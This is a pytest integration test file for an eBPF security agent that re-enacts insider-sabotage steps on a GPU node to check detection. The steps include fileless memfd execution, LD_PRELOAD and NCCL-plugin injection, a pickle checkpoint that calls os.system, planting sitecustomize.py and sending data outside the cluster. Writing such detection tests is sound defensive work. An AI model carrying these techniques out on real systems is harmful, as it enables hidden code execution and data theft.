"""The insider-sabotage playbook, step by step, under a real eBPF agent and a
real collector: real processes load code from a temporary directory into a
GPU process, exec with a preload or NCCL plugin variable, exec from a memfd,
open a malicious checkpoint, write someone else's file in a protected tree,
connect outside the cluster, abort an NCCL communicator and straggle in one;
`gpuaudit findings --json` names the rule, severity, process and user of
each. The negative control, a training-like job doing all a job normally
does (GPU, venv libraries, a benign checkpoint, an in-cluster peer, NCCL at
an even pace), raises nothing.

NCCL is the fake libnccl.so.2 (tests/fixtures/fakenccl), called by Python
ranks through ctypes as a framework would, from a venv-like directory under
/opt (not a temporary one: a library there is what a real job loads)."""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import platform
import pwd
import random
import secrets
import shutil
import subprocess
import sys
import tempfile
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import cast

import pytest

from agent.nccl.types import comm_id
from gpuaudit.v1 import checkpoint_pb2, events_pb2
from tests.capabilities import require, require_bpf
from tests.fixtures.fakenccl.build import build
from tests.fixtures.pickles import corpus
from tests.integration.harness import (
    AS_NOBODY,
    BPF_LOAD,
    GPUAUDIT,
    NOBODY,
    SYS_BPF,
    Agent,
    Collector,
    null_device,
    ready_agent,
    tls_args,
    wait_for,
)

pytestmark = [pytest.mark.bpf, pytest.mark.integration]

NODE = "pb-node"
PYTHON = os.path.realpath(sys.executable)
# Networks of this run's veth pair: 10.N.0.0/24 is the cluster, 192.168.N.0/24
# outside; N random so that runs side by side do not share routes.
_NET = random.randint(100, 199)
CLUSTER, INSIDE, OUTSIDE = f"10.{_NET}.0.0/24", f"10.{_NET}.0.2", f"192.168.{_NET}.2"
FLUSH_S = 2  # nccl.collective reports: several per rank within a few seconds
FINDING_TIMEOUT = 120  # a loaded 2-core machine: agent, collector, follower, CLI

LIB_C = "int gpuaudit_playbook_answer(void) { return 42; }\n"

# Opens the GPU node, loads the library, and lives until stdin closes (the
# agent resolves a mapping through the living process's map_files).
GPU_CODE_LOADER = """
import ctypes, os, sys
fd = os.open(sys.argv[1], os.O_RDWR)
assert ctypes.CDLL(sys.argv[2]).gpuaudit_playbook_answer() == 42
print("loaded", flush=True)
sys.stdin.read()
"""

# Runs `sleep 60` from a memfd copy of it: nothing on disk.
MEMFD_EXEC = """
import os, shutil
fd = os.memfd_create("gpuaudit-pb", 0)
os.write(fd, open(shutil.which("sleep"), "rb").read())
os.execv(f"/proc/self/fd/{fd}", ["sleep", "60"])
"""

# A GPU process that opens a model file and reads its bytes: never unpickles it.
GPU_CKPT_READER = """
import os, sys
fd = os.open(sys.argv[1], os.O_RDWR)
with open(sys.argv[2], "rb") as f:
    f.read()
print("read", flush=True)
sys.stdin.read()
"""

# Writes one byte into an existing file (an open for writing, no create).
OVERWRITE = """
import sys
with open(sys.argv[1], "r+b") as f:
    f.write(b"#")
print("written", flush=True)
sys.stdin.read()
"""

# A server in the other namespace: accepts argv[1] connections, reads each to its end.
SERVER = """
import socket, sys
srv = socket.socket()
srv.bind(("0.0.0.0", 0))
srv.listen(8)
print(srv.getsockname()[1], flush=True)
for _ in range(int(sys.argv[1])):
    conn, _ = srv.accept()
    while conn.recv(65536):
        pass
    conn.close()
"""

# A GPU process connecting to each address given, one after the other.
GPU_CLIENT = """
import os, socket, sys
fd = os.open(sys.argv[1], os.O_RDWR)
port = int(sys.argv[2])
for host in sys.argv[3:]:
    with socket.create_connection((host, port), timeout=30) as s:
        s.sendall(b"weights" * 1000)
print("sent", flush=True)
sys.stdin.read()
"""

# One rank of a job: becomes a GPU process, optionally reads a checkpoint
# (pickle.load of our own benign file) and sends it to a peer, then joins the
# communicator of the shared unique id through the library's ncclCommInitRank
# (the 128-byte id passed by value, as NCCL's signature says), waits for the
# go line, and makes CALLS ncclAllReduce calls GAP seconds apart before
# ending the communicator with ncclCommDestroy or ncclCommAbort.
RANK = """
import ctypes as ct, json, os, pickle, socket, sys, time
lib, gpu, uid, nranks, rank, calls, gap, end, ckpt, peer = sys.argv[1:11]
fd = os.open(gpu, os.O_RDWR)
if ckpt != "-":
    with open(ckpt, "rb") as f:
        weights = pickle.load(f)
    host, port = peer.rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=30) as s:
        s.sendall(json.dumps(weights).encode())

class UniqueId(ct.Structure):
    _fields_ = [("internal", ct.c_char * 128)]

nccl = ct.CDLL(lib)
nccl.ncclCommInitRank.argtypes = [ct.POINTER(ct.c_void_p), ct.c_int, UniqueId, ct.c_int]
nccl.ncclAllReduce.argtypes = [ct.c_void_p, ct.c_void_p, ct.c_size_t, ct.c_int, ct.c_int,
                               ct.c_void_p, ct.c_void_p]
nccl.ncclCommDestroy.argtypes = nccl.ncclCommAbort.argtypes = [ct.c_void_p]
comm = ct.c_void_p()
unique = UniqueId.from_buffer_copy(bytes.fromhex(uid))
assert nccl.ncclCommInitRank(ct.byref(comm), int(nranks), unique, int(rank)) == 0
buf = ct.create_string_buffer(64)
print("ready", flush=True)
sys.stdin.readline()
for i in range(int(calls)):
    if i:
        time.sleep(float(gap))
    assert nccl.ncclAllReduce(buf, buf, 16, 7, 0, comm, None) == 0   # float32, sum
assert (nccl.ncclCommAbort if end == "abort" else nccl.ncclCommDestroy)(comm) == 0
print("done", flush=True)
"""



# --- fixtures ---------------------------------------------------------------

def _open_dir(prefix: str, under: str | None = None) -> Path:
    """A fresh root-owned 0755 directory (everyone may read, only root write)."""
    d = Path(tempfile.mkdtemp(prefix=prefix, dir=under))
    d.chmod(0o755)
    return d


@pytest.fixture(scope="module")
def gpu_node() -> Iterator[Path]:
    """A node of this module and process under the GPU prefix whose open
    succeeds (/dev/null's 1:3): other modules and sessions remove theirs."""
    with null_device(Path(f"/dev/nvidia-gpuaudit-playbook-{os.getpid()}")) as path:
        yield path


@pytest.fixture(scope="module")
def scratch() -> Iterator[Path]:
    """A world-readable temporary directory (under /tmp): the attacker's drop spot."""
    d = _open_dir("gpuaudit-pb-")
    yield d
    shutil.rmtree(d, ignore_errors=True)


@pytest.fixture(scope="module")
def dropped_lib(scratch: Path) -> Path:
    """A shared library built for this run, in the temporary directory."""
    require(shutil.which("gcc") is not None, "needs gcc to build the test library")
    src = scratch / "drop.c"
    src.write_text(LIB_C)
    lib = scratch / "libdrop.so"
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(lib), str(src)], check=True)
    lib.chmod(0o755)
    return lib


@pytest.fixture(scope="module")
def venv(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A venv-like tree under /opt, root's and not writable by others, holding
    the fake libnccl.so.2 where the nvidia-nccl wheel puts the real one."""
    fake = build(tmp_path_factory.mktemp("fakenccl"))
    root = _open_dir("gpuaudit-pb-venv-", "/opt")
    lib_dir = root / "lib/python3/site-packages/nvidia/nccl/lib"
    lib_dir.mkdir(parents=True, mode=0o755)
    shutil.copy(fake.library, lib_dir / "libnccl.so.2")
    (lib_dir / "libnccl.so.2").chmod(0o755)
    yield root
    shutil.rmtree(root, ignore_errors=True)


@pytest.fixture(scope="module")
def libnccl(venv: Path) -> Path:
    return venv / "lib/python3/site-packages/nvidia/nccl/lib/libnccl.so.2"


@pytest.fixture(scope="module")
def tree() -> Iterator[Path]:
    """The protected tree (--protect): root's 0755 directory, traversable by all."""
    d = _open_dir("gpuaudit-pb-tree-")
    yield d
    shutil.rmtree(d, ignore_errors=True)


def _ip(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True, timeout=30)


@pytest.fixture(scope="module")
def netns() -> Iterator[str]:
    """A network namespace joined to this one by a veth pair carrying the
    cluster network and an outside one: .1 here, .2 (INSIDE, OUTSIDE) there."""
    require(shutil.which("ip") is not None, "needs iproute2's ip")
    tag = uuid.uuid4().hex[:6]
    ns, host_if, ns_if = f"ga-pb-{tag}", f"gpbh{tag}", f"gpbn{tag}"
    _ip("netns", "add", ns)
    try:
        _ip("link", "add", host_if, "type", "veth", "peer", "name", ns_if)
        _ip("link", "set", ns_if, "netns", ns)
        for addr in (f"10.{_NET}.0.1/24", f"192.168.{_NET}.1/24"):
            _ip("addr", "add", addr, "dev", host_if)
        _ip("link", "set", host_if, "up")
        for addr in (f"{INSIDE}/24", f"{OUTSIDE}/24"):
            _ip("-n", ns, "addr", "add", addr, "dev", ns_if)
        _ip("-n", ns, "link", "set", ns_if, "up")
        _ip("-n", ns, "link", "set", "lo", "up")
        yield ns
    finally:
        subprocess.run(["ip", "link", "del", host_if], check=False, capture_output=True)
        subprocess.run(["ip", "netns", "del", ns], check=False, capture_output=True)


@pytest.fixture(scope="module")
def agent(collector: Collector, tree: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[
        Agent]:
    """The eBPF agent of this module: the tree protected, the cluster's CIDR,
    NCCL counters reported every FLUSH_S seconds."""
    require_bpf()
    log = tmp_path_factory.mktemp("pb-agent") / "agent.log"
    a = ready_agent(collector, NODE, "ebpf", log, "--protect", str(tree),
                    "--cluster-cidrs", CLUSTER, "--nccl-flush", str(FLUSH_S))
    yield a
    a.stop()


@pytest.fixture(scope="module")
def nccl_probed(agent: Agent, libnccl: Path) -> Path:
    """The venv's libnccl with the agent's uprobes attached. A uprobe belongs
    to the file: once attached (at its first mapping, asynchronously), every
    rank started later is counted from its first call."""
    proc = _child([PYTHON, "-c", "import ctypes, sys; ctypes.CDLL(sys.argv[1]); "
                   "print('mapped', flush=True); sys.stdin.read()", str(libnccl)])
    try:
        _expect(proc, "mapped")
        wait_for(lambda: f"uprobes to {libnccl} " in agent.output(), timeout=FINDING_TIMEOUT)
    finally:
        _finish(proc)
    return libnccl


# --- processes --------------------------------------------------------------

def _child(args: list[str], **kw: object) -> subprocess.Popen[str]:
    return subprocess.Popen(args, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
                            **kw)  # type: ignore[call-overload]


def _expect(proc: subprocess.Popen[str], word: str) -> None:
    assert proc.stdout is not None
    got = proc.stdout.readline().strip()
    assert got == word, f"child said {got!r} (rc={proc.poll()})"


def _finish(proc: subprocess.Popen[str]) -> None:
    """Close its stdin and wait for a clean exit (killed if it hangs)."""
    try:
        proc.communicate("", timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(10)
    assert proc.returncode == 0


@contextlib.contextmanager
def alive(script: str, *args: str, done: str, **kw: object) -> Iterator[subprocess.Popen[str]]:
    """Run ``script`` until it says ``done``; yield it alive; then let it exit."""
    proc = _child([PYTHON, "-c", script, *args], **kw)
    try:
        _expect(proc, done)
        yield proc
    finally:
        _finish(proc)


class Rank:
    """One rank (the RANK program), stopped before its first collective."""

    def __init__(self, lib: Path, gpu: Path, uid: bytes, nranks: int, rank: int, calls: int,
                 gap: float, end: str = "destroy", ckpt: str = "-", peer: str = "-") -> None:
        self.proc = _child([PYTHON, "-c", RANK, str(lib), str(gpu), uid.hex(), str(nranks),
                            str(rank), str(calls), str(gap), end, ckpt, peer])
        self.pid = self.proc.pid
        _expect(self.proc, "ready")

    def go(self) -> None:
        assert self.proc.stdin is not None
        self.proc.stdin.write("go\n")
        self.proc.stdin.flush()

    def finish(self) -> None:
        _expect(self.proc, "done")
        _finish(self.proc)


def run_ranks(ranks: list[Rank]) -> None:
    """Start every rank's collectives together; wait for all to end."""
    try:
        for r in ranks:
            r.go()
        for r in ranks:
            r.finish()
    finally:
        for r in ranks:
            if r.proc.poll() is None:
                r.proc.kill()
                r.proc.wait(10)


# --- findings ---------------------------------------------------------------

def findings(collector: Collector) -> list[dict]:
    """`gpuaudit findings --json` over mTLS with the reader certificate."""
    assert collector.pki is not None
    done = subprocess.run(
        [GPUAUDIT, "findings", "--collector", collector.address, "--json",
         *tls_args(collector.pki.reader)],
        capture_output=True, text=True, timeout=60,
    )
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in done.stdout.splitlines()]


def wait_finding(collector: Collector, rule: str,
                 about: Callable[[dict], bool]) -> dict:
    """Wait until ``rule`` has a finding that ``about`` accepts; return it."""
    def look() -> dict | None:
        return next((f for f in findings(collector) if f["rule"] == rule and about(f)), None)

    found = wait_for(look, timeout=FINDING_TIMEOUT, every=1)
    assert isinstance(found, dict)
    return found


def finding_of(collector: Collector, rule: str, pid: int) -> dict:
    """Wait until ``rule`` has a finding about process ``pid``; return it."""
    return wait_finding(collector, rule, lambda f: f.get("process", {}).get("pid") == pid)


def assert_names(f: dict, severity: str, user: pwd.struct_passwd,
                 exe: str | None = PYTHON) -> None:
    """The finding's severity, node, and the process's user (and program)."""
    assert (f["severity"], f["node"]) == (severity, NODE)
    assert (f["process"]["user"], f["process"]["uid"]) == (user.pw_name, user.pw_uid)
    if exe is not None:
        assert f["process"]["exe"] == exe
    assert f["count"] >= 1 and f["events"][0]["node"] == NODE


ROOT = pwd.getpwuid(0)


QUEUE_FULL = "scan queue full"  # agent/checkpoint/worker.py: the answer when flooded


def scan_of(collector: Collector, pid: int, path: Path) -> events_pb2.Event:
    """Wait for the checkpoint.scan of ``path`` opened by ``pid``."""
    def look() -> list[events_pb2.Event]:
        return [e for e in collector.query(types=["checkpoint.scan"], nodes=[NODE], pid=pid)
                if e.checkpoint_scan.path == str(path)]

    found = wait_for(look, timeout=FINDING_TIMEOUT)
    return found[0]  # type: ignore[index]


def read_checkpoint(collector: Collector, gpu: Path, path: Path,
                    **as_user: object) -> tuple[int, checkpoint_pb2.CheckpointScan]:
    """A GPU process reads ``path``; its pid and the scan. The agent is
    host-wide: other processes opening many model files at the same time
    (another test run) can fill its scan queue, and an open is then answered
    "scan queue full" (and counted as lost, an audit-events-lost finding):
    the read is done again by a fresh process, as a job reading it later."""
    for _ in range(5):
        with alive(GPU_CKPT_READER, str(gpu), str(path), done="read", **as_user) as proc:
            scan = scan_of(collector, proc.pid, path).checkpoint_scan
        if scan.error != QUEUE_FULL:
            return proc.pid, scan
    raise AssertionError(f"{path}: the agent's scan queue stayed full")


# --- the playbook -----------------------------------------------------------

def test_code_loaded_into_a_gpu_process_from_a_temp_dir(
        collector: Collector, agent: Agent, gpu_node: Path, dropped_lib: Path) -> None:
    with alive(GPU_CODE_LOADER, str(gpu_node), str(dropped_lib), done="loaded",
               **AS_NOBODY) as proc:
        f = finding_of(collector, "code-load-untrusted", proc.pid)
    assert_names(f, "high", NOBODY)
    assert f"loaded {dropped_lib} (file)" in f["summary"]
    assert f["mitre"] == ["T1574", "T1129"]


@pytest.mark.parametrize(("variable", "program"), [
    ("LD_PRELOAD", "/bin/true"), ("LD_AUDIT", "/bin/echo"), ("NCCL_NET_PLUGIN", "/bin/ls"),
    ("NCCL_TUNER_PLUGIN", "/bin/date"),
])
def test_exec_with_a_preload_or_nccl_plugin_variable(
        collector: Collector, agent: Agent, dropped_lib: Path, variable: str,
        program: str) -> None:
    env = {"PATH": "/usr/bin:/bin", variable: str(dropped_lib)}
    proc = subprocess.Popen([program], env=env, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, **AS_NOBODY)  # type: ignore[call-overload]
    proc.wait(60)
    f = finding_of(collector, "exec-preload", proc.pid)
    assert_names(f, "high", NOBODY, exe=None)  # the exe is the program, or ld.so's view of it
    assert f"nobody started {program} with {variable}={dropped_lib}" in f["summary"]


def test_fileless_exec_from_a_memfd(collector: Collector, agent: Agent) -> None:
    proc = subprocess.Popen([PYTHON, "-c", MEMFD_EXEC], **AS_NOBODY)  # type: ignore[call-overload]
    try:
        f = finding_of(collector, "exec-fileless", proc.pid)
    finally:
        proc.kill()
        proc.wait(10)
    assert_names(f, "high", NOBODY, exe=None)  # a memfd: no path on disk
    assert "nobody executed /proc/self/fd/" in f["summary"] and "(memfd)" in f["summary"]
    assert f["mitre"] == ["T1620", "T1027"]


def test_a_malicious_checkpoint_opened_by_a_gpu_process(
        collector: Collector, agent: Agent, gpu_node: Path, scratch: Path) -> None:
    evil = scratch / f"model-{uuid.uuid4().hex[:8]}.pkl"  # content of its own: its own finding
    evil.write_bytes(corpus.proto0_call("os", "system", f"echo {evil.name}"))
    evil.chmod(0o644)
    pid, scan = read_checkpoint(collector, gpu_node, evil, **AS_NOBODY)
    assert (scan.verdict, list(scan.globals)) == ("malicious", ["os.system"])
    f = finding_of(collector, "checkpoint-malicious", pid)
    assert_names(f, "critical", NOBODY)
    assert f"opened {evil} importing os.system" in f["summary"]


@pytest.mark.parametrize(("owner", "writer"), [(ROOT, NOBODY), (NOBODY, ROOT)],
                         ids=["nobody-writes-roots-file", "root-writes-nobodys-file"])
def test_a_file_in_a_protected_tree_written_by_another_user(
        collector: Collector, agent: Agent, tree: Path, owner: pwd.struct_passwd,
        writer: pwd.struct_passwd) -> None:
    target = tree / f"model-{owner.pw_name}.py"
    target.write_text("weights = 1\n")
    os.chown(target, owner.pw_uid, owner.pw_gid)
    target.chmod(0o666)  # the owner made it writable to all: a mistake, not a permission
    as_writer = AS_NOBODY if writer is NOBODY else {}
    with alive(OVERWRITE, str(target), done="written", **as_writer) as proc:
        f = finding_of(collector, "file-foreign-write", proc.pid)
    assert_names(f, "high", writer)
    assert f"open_write {target} owned by uid {owner.pw_uid}" in f["summary"]


# Plants a file in a directory of the tree: a new name (create), or its own
# file renamed over the one there (the usual way to replace a module).
PLANT = """
import os, sys
how, target = sys.argv[1], sys.argv[2]
if how == "create":
    with open(target, "x") as f:
        f.write("import os\\n")
else:
    mine = target + ".new"
    with open(mine, "x") as f:
        f.write("import os\\n")
    os.rename(mine, target)
print("written", flush=True)
sys.stdin.read()
"""


@pytest.mark.parametrize("how", ["create", "rename"])
def test_a_file_planted_in_a_protected_tree_by_another_user(
        collector: Collector, agent: Agent, tree: Path, how: str) -> None:
    shared = tree / f"shared-{how}"  # root's, writable by all by mistake (not sticky)
    shared.mkdir(mode=0o777)
    shared.chmod(0o777)
    target = shared / "sitecustomize.py"
    if how == "rename":
        target.write_text("# root's module\n")
    with alive(PLANT, how, str(target), done="written", **AS_NOBODY) as proc:
        def planted() -> list[events_pb2.Event]:
            return [e for e in collector.query(types=["file.write"], nodes=[NODE], pid=proc.pid)
                    if e.file_write.path == str(target)]

        found = cast(list[events_pb2.Event], wait_for(planted, timeout=FINDING_TIMEOUT))
    (ev,) = found
    assert (ev.file_write.op, ev.file_write.tree) == (how, str(tree))
    assert ev.file_write.owner_mismatch, ev.file_write  # nobody's name in root's directory
    f = finding_of(collector, "file-foreign-write", proc.pid)
    assert_names(f, "high", NOBODY)


def test_a_gpu_process_connecting_outside_the_cluster(
        collector: Collector, agent: Agent, gpu_node: Path, netns: str) -> None:
    server = _child(["ip", "netns", "exec", netns, PYTHON, "-c", SERVER, "2"])
    assert server.stdout is not None
    port = server.stdout.readline().strip()
    try:
        # inside first: once the outside connect's finding is there, the
        # inside one was evaluated too (events of a node arrive in order)
        with alive(GPU_CLIENT, str(gpu_node), port, INSIDE, OUTSIDE, done="sent") as proc:
            f = finding_of(collector, "net-egress-outside-cluster", proc.pid)
            mine = [g for g in findings(collector) if g.get("process", {}).get("pid") == proc.pid]
    finally:
        _finish(server)
    assert_names(f, "medium", ROOT)
    assert f"connected to {OUTSIDE}:{port} from {NODE}" in f["summary"]
    assert [g["rule"] for g in mine] == ["net-egress-outside-cluster"]  # not the inside peer


def test_an_nccl_communicator_abort(collector: Collector, agent: Agent, gpu_node: Path,
                                    nccl_probed: Path) -> None:
    uid = secrets.token_bytes(128)
    ranks = [Rank(nccl_probed, gpu_node, uid, 2, r, calls=3, gap=0, end="abort")
             for r in (0, 1)]
    run_ranks(ranks)
    comm = comm_id(uid)
    # one finding per communicator, counting the ranks that aborted
    f = wait_finding(collector, "nccl-comm-abort", lambda f: f["key"] == comm and f["count"] == 2)
    assert f["process"]["pid"] in {r.pid for r in ranks}
    assert_names(f, "medium", ROOT)
    assert f"aborted NCCL communicator {comm} on {NODE}" in f["summary"]


def test_an_nccl_straggler(collector: Collector, agent: Agent, gpu_node: Path,
                           nccl_probed: Path) -> None:
    """Three ranks of one communicator for about three reports each: two call
    every 50 ms, one every 600 ms (12 times slower, far past the rule's 4)."""
    uid = secrets.token_bytes(128)
    fast = [Rank(nccl_probed, gpu_node, uid, 3, r, calls=130, gap=0.05) for r in (0, 1)]
    slow = Rank(nccl_probed, gpu_node, uid, 3, 2, calls=12, gap=0.6)
    run_ranks([*fast, slow])
    comm = comm_id(uid)
    f = finding_of(collector, "nccl-straggler", slow.pid)
    assert_names(f, "medium", ROOT)
    assert f"rank pid {slow.pid} on {NODE} lags communicator {comm} (AllReduce)" in f["summary"]
    assert f"{NODE}/{slow.pid}: " in f["summary"] and "of 2 peers" in f["summary"]
    stragglers = {g["process"]["pid"] for g in findings(collector)
                  if g["rule"] == "nccl-straggler" and comm in g["key"]}
    assert stragglers == {slow.pid}


# --- the negative control ---------------------------------------------------

def _stored(collector: Collector, pid: int, type_: str,
            ok: Callable[[object], bool] = lambda e: True) -> bool:
    return any(ok(e) for e in collector.query(types=[type_], nodes=[NODE], pid=pid))


def _wait_job_recorded(collector: Collector, pid: int, lib: Path, calls: int) -> None:
    """Every step of the rank is stored: the evidence its events were evaluated
    (the follower reads in arrival order) once a later marker's finding is in."""
    steps: dict[str, Callable[[], bool]] = {
        "gpu.open": lambda: _stored(collector, pid, "gpu.open"),
        "net.connect": lambda: _stored(
            collector, pid, "net.connect",
            lambda e: e.net_connect.remote_addr == INSIDE  # type: ignore[attr-defined]
            and e.net_connect.peer_in_cluster),  # type: ignore[attr-defined]
        "code.load": lambda: _stored(
            collector, pid, "code.load",
            lambda e: e.code_load.path == str(lib)),  # type: ignore[attr-defined]
        "nccl.comm_end": lambda: _stored(collector, pid, "nccl.comm_end"),
        "nccl.collective": lambda: sum(
            e.nccl_collective.calls for e in collector.query(
                types=["nccl.collective"], nodes=[NODE], pid=pid)) == calls,
    }
    for name, done in steps.items():
        try:
            wait_for(done, timeout=FINDING_TIMEOUT, every=0.5)
        except AssertionError:
            raise AssertionError(f"rank {pid}: its {name} never stored") from None


def test_a_training_like_job_raises_nothing(collector: Collector, agent: Agent, gpu_node: Path,
                                            nccl_probed: Path, netns: str,
                                            tmp_path: Path) -> None:
    """Three ranks, each: opens the GPU, reads a benign checkpoint, sends it to
    an in-cluster peer, loads libnccl from its venv and makes 40 collectives
    100 ms apart, then destroys its communicator. No finding names them."""
    ckpt = tmp_path / "weights.pkl"
    ckpt.write_bytes(pickle.dumps({"layer0": [0.1, 0.2], "step": 100}))
    server = _child(["ip", "netns", "exec", netns, PYTHON, "-c", SERVER, "3"])
    assert server.stdout is not None
    peer = f"{INSIDE}:{server.stdout.readline().strip()}"
    uid, calls = secrets.token_bytes(128), 40
    try:
        ranks = [Rank(nccl_probed, gpu_node, uid, 3, r, calls=calls, gap=0.1, ckpt=str(ckpt),
                      peer=peer) for r in range(3)]
        run_ranks(ranks)
    finally:
        _finish(server)
    for r in ranks:
        _wait_job_recorded(collector, r.pid, nccl_probed, calls)
    pids = {r.pid for r in ranks}
    scans = [scan_of(collector, pid, ckpt).checkpoint_scan for pid in pids]
    verdicts = {s.verdict for s in scans if s.error != QUEUE_FULL}
    if not verdicts:  # every rank's open met a scan queue flooded by others: read it again
        pid, scan = read_checkpoint(collector, gpu_node, ckpt)
        pids.add(pid)
        verdicts.add(scan.verdict)
    assert verdicts == {"safe"}
    machine = platform.machine()
    require(machine in SYS_BPF, f"no bpf syscall number for {machine}")
    marker = subprocess.Popen([PYTHON, "-c", BPF_LOAD, str(SYS_BPF[machine]), "gpuaudit_pb"])
    assert marker.wait(60) == 0
    finding_of(collector, "bpf-foreign-load", marker.pid)
    named = [f for f in findings(collector) if f.get("process", {}).get("pid") in pids]
    assert named == []
    assert [f for f in findings(collector) if comm_id(uid) in f["key"]] == []

